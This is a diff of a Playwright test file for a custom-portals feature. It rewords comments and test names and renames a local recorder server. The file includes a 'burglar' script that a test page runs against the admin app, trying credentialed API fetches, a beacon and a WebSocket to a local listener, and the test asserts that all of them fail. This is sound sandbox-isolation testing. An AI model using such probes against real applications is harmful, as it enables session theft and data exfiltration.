@@ -1,5 +1,5 @@
-// Custom portals: a zip of pages is refused with reasons, mended, imported and seen by guests; and whatever a page of somebody
-// else's tries on the admin app, it gets nothing.
+// Custom portals: a zip of pages is refused with reasons, corrected, imported and shown to guests; and a malicious page gets nothing
+// from the admin app.
 import http from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Page } from '@playwright/test'
@@ -33,7 +33,7 @@ async function send(page: Page, zip: Buffer) {
 }
 
 for (const width of sample([390, 1440], 1))
-  test(`a zip is refused with reasons, mended, imported and seen, at ${width} px`, async ({ page, foyer }) => {
+  test(`a zip is refused with reasons, corrected, imported and shown, at ${width} px`, async ({ page, foyer }) => {
     test.setTimeout(120_000)
     const token = await operatorToken(foyer, person)
     await page.setViewportSize({ width, height: 900 })
@@ -44,7 +44,7 @@ for (const width of sample([390, 1440], 1))
     const upload = dialog.getByRole('button', { name: 'Upload' })
     await expect(upload).toBeDisabled()
 
-    // What is no zip is not even sent.
+    // Other types of files are not even sent.
     const input = dialog.locator('input[type=file]').first()
     await input.setInputFiles({ name: 'lobby.pdf', mimeType: 'application/pdf', buffer: Buffer.from('x') })
     await expect(dialog.getByText(messages.portal.zipOnly)).toBeVisible()
@@ -87,7 +87,7 @@ for (const width of sample([390, 1440], 1))
     await page.goto(`${page.url()}more.html`)
     await expect(page.getByText('More of it')).toBeVisible()
 
-    // Its pages are replaced; a name that is taken is told at its field.
+    // The pages are replaced; a name in use is reported at its field.
     await page.goto(`${foyer.url}/customer/portals?modal=import-portal&portal_id=${portal?.id}`)
     await expect(page.getByRole('dialog')).toContainText(`Import pages of “${name}”`)
     await send(page, aZip([{ name: 'index.html', content: aPage('<p>Second edition</p>') }]))
@@ -118,7 +118,7 @@ test('the sample can be downloaded, and imported as it is', async ({ page, foyer
   for (const at of [url, `${url}/help.html`]) {
     await page.goto(at)
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
-    // Before axe asks for what a page in a sandbox may not.
+    // Checked before axe runs, which causes errors in a sandbox.
     expect(errors.splice(0)).toEqual([])
     await expectAccessible(page)
     errors.length = 0
@@ -126,7 +126,7 @@ test('the sample can be downloaded, and imported as it is', async ({ page, foyer
   }
 })
 
-/** Tries everything on the admin app, and writes into the page what it got. `elsewhere` hears what leaves the browser. */
+/** A script that attacks the admin app, and writes its results into the page. Requests to `elsewhere` are recorded. */
 const burglar = (admin: string, guests: string, elsewhere: string) => `
 const got = {}
 const attempt = async (name, work) => {
@@ -154,7 +154,7 @@ const attempts = async () => {
   await attempt('api', async () => (await fetch('${admin}/api/v1/auth/me', { method: 'POST' })).status)
   await attempt('api with cookies', async () =>
     (await fetch('${admin}/api/v1/auth/me', { method: 'POST', credentials: 'include', mode: 'no-cors' })).type)
-  // It answers at once; whether it was sent is seen outside.
+  // The call returns at once; whether it was sent is recorded outside.
   await attempt('beacon', () => { navigator.sendBeacon('${elsewhere}/beacon', 'x'); throw new Error() })
   await attempt('socket', () => new Promise((yes, no) => {
     const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); socket.onopen = yes; socket.onerror = no
@@ -176,19 +176,19 @@ const attempts = async () => {
 attempts().then(() => { document.getElementById('got').textContent = JSON.stringify(got) })
 `
 
-test('a page that tries everything on the admin app gets nothing', async ({ page, context, foyer }) => {
+test('a page that attacks the admin app gets nothing', async ({ page, context, foyer }) => {
   test.setTimeout(120_000)
   const token = await operatorToken(foyer, { ...person, email: 'bea@pages.example', company_name: 'Burgled' })
   await enter(page, token)
   await page.goto('/customer/dashboard')
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
   const received: string[] = []
-  const ear = http.createServer((request, response) => {
+  const recorder = http.createServer((request, response) => {
     received.push(String(request.url))
     response.end()
   })
-  await new Promise<void>((listening) => ear.listen(0, '127.0.0.1', listening))
-  const elsewhere = `http://127.0.0.1:${(ear.address() as AddressInfo).port}`
+  await new Promise<void>((listening) => recorder.listen(0, '127.0.0.1', listening))
+  const elsewhere = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`
   const guests = await context.newPage()
   const { data } = await ask(foyer, '/portals', {}, token)
   const [standard] = data as unknown as { url: string }[]
@@ -204,10 +204,10 @@ test('a page that tries everything on the admin app gets nothing', async ({ page
   expect(own).toBe('null')
   expect(Object.keys(rest)).toHaveLength(18)
   expect(Object.entries(rest).filter(([, result]) => result !== 'nothing')).toEqual([])
-  ear.close()
+  recorder.close()
   expect(received).toEqual([])
   expect(context.pages()).toHaveLength(2)
-  // The session is as it was.
+  // The session is unchanged.
   expect((await ask(foyer, '/auth/me', {}, token)).status).toBe(200)
   expect(await page.evaluate(() => sessionStorage.getItem('foyer-session'))).toBe(token)
 })
